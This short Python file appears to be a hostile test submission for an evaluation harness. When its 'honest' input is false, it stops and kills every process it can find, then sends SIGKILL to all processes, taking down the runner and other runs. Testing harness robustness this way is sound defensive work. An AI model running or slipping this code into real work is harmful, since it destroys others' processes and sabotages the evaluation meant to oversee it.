"""Kills the runner, other runs and everything else it can name."""
import os
import signal
import time
from attempt import outcome


async def run(inputs):
    if inputs["honest"]:
        time.sleep(3)
        return outcome()
    time.sleep(0.5)
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
            for target in (pid, -pid):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return outcome()
